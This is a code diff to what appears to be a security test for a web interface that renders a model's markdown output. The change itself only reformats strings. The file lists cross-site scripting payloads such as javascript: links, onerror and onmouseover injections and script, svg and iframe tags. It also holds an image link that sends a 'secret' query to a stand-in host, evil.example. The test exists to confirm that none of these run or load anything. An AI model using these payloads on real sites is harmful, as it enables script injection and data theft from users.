@@ -51,10 +51,10 @@ PAYLOADS = (
     f"<javascript:{RUN}>",
     f"[link][1]\n\n[1]: javascript:{RUN}",
     f'[link](https://example.org "x" onmouseover="{RUN}")',
-    f"[link](<https://example.org/\"onmouseover=\"{RUN}>)",
+    f'[link](<https://example.org/"onmouseover="{RUN}>)',
     "![image](https://evil.example/?q=secret)",
     f'![x" onerror="{RUN}](x)',
-    f"```\"><img src=x onerror={RUN}>\n<script>{RUN}</script>\n```",
+    f'```"><img src=x onerror={RUN}>\n<script>{RUN}</script>\n```',
     f"```html\n<script>{RUN}</script><img src=x onerror={RUN}>\n```\n`<img src=x onerror={RUN}>`",
     f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <script>{RUN}</script> | <svg/onload={RUN}> |",
     f"# <img src=x onerror={RUN}>\n\n> <svg onload={RUN}>\n\n- [ ] <iframe src=javascript:{RUN}>",
@@ -94,7 +94,9 @@ def test_output_of_a_model_runs_and_loads_nothing(page, script):
         for link in page(".body a:not([href])"):
             link.click()
         for link in page(".body a, .body p, .body td"):
-            page.js("for (const name of ['mouseover', 'focus', 'toggle']) arguments[0].dispatchEvent(new Event(name))", link)
+            page.js(
+                "for (const name of ['mouseover', 'focus', 'toggle']) arguments[0].dispatchEvent(new Event(name))", link
+            )
         harmless()
         page.button("Token probabilities")
         page.until(lambda: page(".token"))
